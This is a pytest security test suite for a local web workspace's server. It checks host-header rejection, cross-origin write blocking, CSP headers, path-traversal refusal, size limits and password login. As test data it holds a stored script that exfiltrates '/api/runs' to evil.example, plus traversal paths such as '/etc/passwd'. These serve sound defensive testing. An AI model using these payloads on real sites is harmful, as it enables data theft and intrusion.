"""Who reaches the workspace, and what a page of it may do."""

from __future__ import annotations

import http.client
import json
import re
from collections.abc import Mapping
from contextlib import suppress
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from assay.cli.serve import PASSWORD as VARIABLE
from assay.core.history import PAGE
from assay.stores.history import History
from tests.rating.made import predictions
from tests.stores.runs import RESULT, run_of
from tests.web.conftest import Open, Serve
from tests.web.served import Workspace, asked, get
from tests.web.workspace.made import Made

SHOWN = ("/", "/runs/x", "/static/look.css", "/nowhere", "/r/x", "/o/x")
PATHS = (*SHOWN, "/api/runs", "/api/openapi.json", "/api/nowhere")


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example:80", "[::2]:80", "", "localhost.example"])
def test_no_other_site_reaches_it_by_a_name_of_its_own(reading: Workspace, host: str) -> None:
    for path in PATHS:
        assert get(f"{reading.address}{path}", Host=host)[0] == 421
    assert asked(f"{reading.address}/api/runs/x", method="DELETE", Host=host)[0] == 421


def test_this_machines_names_are_its_own(reading: Workspace) -> None:
    for host in ("localhost", f"localhost:{reading.port}", "127.0.0.1:1", "[::1]:80", "[::1]"):
        assert get(f"{reading.address}/api/about", Host=host)[0] == 200


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
        {"Origin": "http://127.0.0.1:1"},  # another server of this machine
        {"Origin": ""},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
    ],
)
def test_no_page_of_another_origin_changes_anything(
    reading: Workspace, made: Made, method: str, headers: dict[str, str]
) -> None:
    for path in (f"runs/{made.ids['round-0']}", "evaluations", "ratings", "evaluations/x/files/0"):
        status, text, _ = asked(f"{reading.address}/api/{path}", {"note": "taken"}, method, **headers)
        assert (status, text) == (403, "Asked from another page.")


def test_its_own_pages_and_programs_change_things(reading: Workspace, made: Made) -> None:
    run = f"{reading.address}/api/runs/{made.ids['round-0']}"
    for headers in ({"Origin": reading.address, "Sec-Fetch-Site": "same-origin"}, {"Sec-Fetch-Site": "none"}, {}):
        assert asked(run, {}, "PATCH", **headers)[0] == 200


def test_every_answer_says_what_a_page_must_not_do(reading: Workspace, made: Made) -> None:
    kept = (f"/runs/{made.ids['round-0']}/page", f"/runs/{made.ids['round-0']}/result.json")
    for path in (*PATHS, *kept, "/api/runs?limit=0", "/api/runs/zzzz"):
        for headers in ({}, {"Host": "evil.example"}):
            found = {name.lower(): value for name, value in get(f"{reading.address}{path}", **headers)[2].items()}
            policy = found["content-security-policy"]
            assert "default-src 'none'" in policy
            assert "connect-src" not in policy or "connect-src 'self'" in policy
            assert found["x-content-type-options"] == "nosniff"
            assert found["referrer-policy"] == "no-referrer"
            assert found["cross-origin-opener-policy"] == "same-origin"
            assert found["cross-origin-resource-policy"] == "same-origin"
            assert "server" not in found
            if path.startswith(("/api", "/runs", "/r/", "/o/")) and not headers:
                assert found["cache-control"] == "no-store"
    refused = asked(f"{reading.address}/api/runs/x", {}, "PATCH", Origin="http://evil.example")[2]
    assert "default-src 'none'" in {name.lower(): value for name, value in refused.items()}["content-security-policy"]


def test_pages_hold_no_script_and_no_style_of_their_own(reading: Workspace) -> None:
    for path in ("/", "/compare", "/evaluate", "/ratings"):
        text = get(f"{reading.address}{path}")[1]
        assert not re.search(r"<script(?![^>]*\ssrc=)|\son\w+=|style=|<style", text)


def test_a_hostile_page_in_an_imported_history_has_no_origin_and_nowhere_to_go(workspace: Open, tmp_path: Path) -> None:
    hostile = "<!doctype html><script>fetch('/api/runs').then(r=>r.text()).then(t=>location='http://evil.example/?'+t)</script>"
    place = str(tmp_path / "hostile.sqlite3")
    with History(place) as history:
        history.add(run_of(1), RESULT, {PAGE: [hostile.encode()]})
    server = workspace(place)
    status, text, headers = get(f"{server.address}/runs/{run_of(1).id}/page")
    assert (status, text) == (200, hostile)
    policy = {one.split()[0]: one.split()[1:] for one in headers["content-security-policy"].split("; ")}
    assert policy["sandbox"] == ["allow-scripts", "allow-downloads"]  # no origin, no forms, no windows, no navigation
    assert policy["default-src"] == ["'none'"]
    assert "connect-src" not in policy
    assert (policy["img-src"], policy["form-action"], policy["base-uri"]) == (["data:"], ["'none'"], ["'none'"])
    assert policy["frame-ancestors"] == ["'self'"]


def raw(server: Workspace, method: str, path: str, headers: Mapping[str, str], body: bytes = b"") -> tuple[int, bytes]:
    """A request as it is written here."""
    connection = http.client.HTTPConnection(urlsplit(server.address).netloc, timeout=20)
    connection.putrequest(method, path, skip_host="Host" in headers, skip_accept_encoding=True)
    for name, value in headers.items():
        connection.putheader(name, value)
    connection.endheaders()
    with suppress(OSError):  # it has heard enough
        connection.send(body)
    answer = connection.getresponse()
    found = answer.status, answer.read()
    connection.close()
    return found


def test_no_path_leads_out_of_the_static_files(reading: Workspace) -> None:
    out = ("../app.py", "%2e%2e/app.py", "..%2f..%2fapp.py", "/etc/passwd", "")
    for path in (f"/static/{one}" for one in out):
        status, text = raw(reading, "GET", path, {})
        assert status in (404, 405), path
        assert b"import" not in text


def test_a_request_that_is_too_large_is_cut_off_whatever_it_says(reading: Workspace) -> None:
    post = ("POST", "/api/evaluations")
    assert raw(reading, *post, {"Content-Length": "4000001"})[0] == 413
    assert raw(reading, *post, {"Content-Length": "9" * 5000})[0] in (400, 413)
    chunked = {"Transfer-Encoding": "chunked", "Content-Type": "application/json"}
    chunk = b"fffff\r\n" + b" " * 0xFFFFF + b"\r\n"
    status, text = raw(reading, *post, chunked, chunk * 6 + b"0\r\n\r\n")
    assert (status, text) == (413, b'{"error":"Too large."}')
    assert reading.api("about")[0] == 200


# The door


PASSWORD = "a good long password 密码"  # noqa: S105 - of the tests
EVERYWHERE = ("--host", "0.0.0.0")  # noqa: S104 - it needs a password


def test_for_others_a_password_is_needed_and_one_is_made_and_said_once(workspace: Open, own_place: str) -> None:
    server = workspace(own_place, *EVERYWHERE)
    server.address = f"http://127.0.0.1:{server.port}"
    assert server.api("runs") == (401, {"error": "Log in first."})
    status, said = server.end()
    assert status == 0
    (password,) = re.findall(r"password for this time: (\S+)", said)
    assert len(password) >= 16
    assert said.count(password) == 1
    assert "not encrypted" in said


def logged_in(server: Workspace, password: str) -> tuple[int, str]:
    """The status, and the cookie."""
    status, _, headers = asked(f"{server.address}/login", {"password": password})
    return status, headers.get("set-cookie", "")


def test_who_knows_the_password_goes_in(workspace: Open, own_place: str, made: Made) -> None:
    server = workspace(own_place, **{VARIABLE: PASSWORD})
    run = made.ids["round-0"]
    for path in ("/", "/compare", f"/runs/{run}", f"/runs/{run}/page", f"/runs/{run}/result.json"):
        assert raw(server, "GET", path, {})[0] == 303, path
    for method, path in (("GET", "runs"), ("GET", "openapi.json"), ("DELETE", f"runs/{run}"), ("POST", "evaluations")):
        assert server.api(path, {} if method == "POST" else None, method)[0] == 401
    assert asked(f"{server.address}/nowhere", {}, "POST")[0] == 401
    for path in ("/login", "/login?lang=zh-Hans", "/static/look.css"):
        assert get(f"{server.address}{path}")[0] == 200
    assert get(f"{server.address}/r/x/start")[0] == get(f"{server.address}/o/x")[0] == 404
    status, cookie = logged_in(server, PASSWORD)
    assert status == 200
    assert "HttpOnly" in cookie
    assert "SameSite=strict" in cookie
    assert PASSWORD not in cookie
    key = cookie.partition(";")[0]
    assert server.api("about", Cookie=key)[1]["locked"] is True
    assert server.api(f"runs/{run}", method="DELETE", Cookie=key)[0] == 204
    bearer = f"Bearer {PASSWORD}".encode().decode("latin-1")
    assert server.api("runs", Authorization=bearer)[0] == 200
    for wrong in ("assay-door=x", f"assay-door={'0' * 64}", f"other={key.partition('=')[2]}"):
        assert server.api("runs", Cookie=wrong)[0] == 401
    assert server.api("runs", Cookie=f"assay-door={PASSWORD}".encode().decode("latin-1"))[0] == 401
    server.end()
    server.start()
    assert server.api("runs", Cookie=key)[0] == 200  # the same password, the same key
    server.end()
    server.variables = {**server.variables, VARIABLE: "another one"}
    server.start()
    assert server.api("runs", Cookie=key)[0] == 401


@pytest.mark.parametrize("bearer", [False, True])
def test_after_ten_wrong_passwords_none_is_heard_for_a_while(workspace: Open, own_place: str, bearer: bool) -> None:
    server = workspace(own_place, **{VARIABLE: PASSWORD})
    key = logged_in(server, PASSWORD)[1].partition(";")[0]

    def tried(password: str) -> int:
        if bearer:
            return server.api("runs", Authorization=f"Bearer {password}".encode().decode("latin-1"))[0]
        return logged_in(server, password)[0]

    wrong = 401 if bearer else 403
    assert [tried(f"wrong {n}") for n in range(10)] == [wrong] * 10
    assert tried("wrong") == tried(PASSWORD) == logged_in(server, PASSWORD)[0] == 429
    assert server.api("runs", Cookie=key)[0] == 200  # who is in stays in
    text = asked(f"{server.address}/login?lang=zh-Hant", {"password": "x"})[1]
    assert json.loads(text)["error"] == "密碼錯誤次數過多。請一分鐘後再試。"


def test_logging_out_takes_the_key_back(workspace: Open, own_place: str) -> None:
    server = workspace(own_place, **{VARIABLE: PASSWORD})
    key = logged_in(server, PASSWORD)[1].partition(";")[0]
    assert asked(f"{server.address}/logout", {}, "POST")[0] == 401
    headers = asked(f"{server.address}/logout", {}, "POST", Cookie=key)[2]
    assert "Max-Age=0" in headers["set-cookie"]
    assert asked(f"{server.address}/login", {"password": PASSWORD}, Origin="http://evil.example")[0] == 403
    for body in (b"", b"{}", b'{"password": ""}', b'{"password": 5}', json.dumps({"password": "x" * 1001}).encode()):
        assert asked(f"{server.address}/login", body, "POST")[0] == 422


def test_the_password_may_lie_in_a_file(workspace: Open, own_place: str, tmp_path: Path) -> None:
    file = tmp_path / "password"
    file.write_text(f"\ufeff{PASSWORD}\n", encoding="utf-8")
    server = workspace(own_place, "--password-file", str(file), *EVERYWHERE, **{VARIABLE: "other than that"})
    server.address = f"http://127.0.0.1:{server.port}"
    assert logged_in(server, "other than that")[0] == 403
    assert logged_in(server, PASSWORD)[0] == 200
    assert PASSWORD not in server.end()[1]


def test_raters_need_their_links_alone(serve: Serve, workspace: Open, own_place: str, tmp_path: Path) -> None:
    rating = serve(predictions(tmp_path, "a"), "--raters", "Li")
    rating.end()
    server = workspace(own_place, **{VARIABLE: PASSWORD})
    for link in (f"{rating.links['Li']}/start", rating.links["Li"], rating.owner, f"{rating.owner}/export.csv"):
        assert get(link.replace(f":{rating.port}/", f":{server.port}/"))[0] == 200
    assert server.api("ratings")[0] == 401
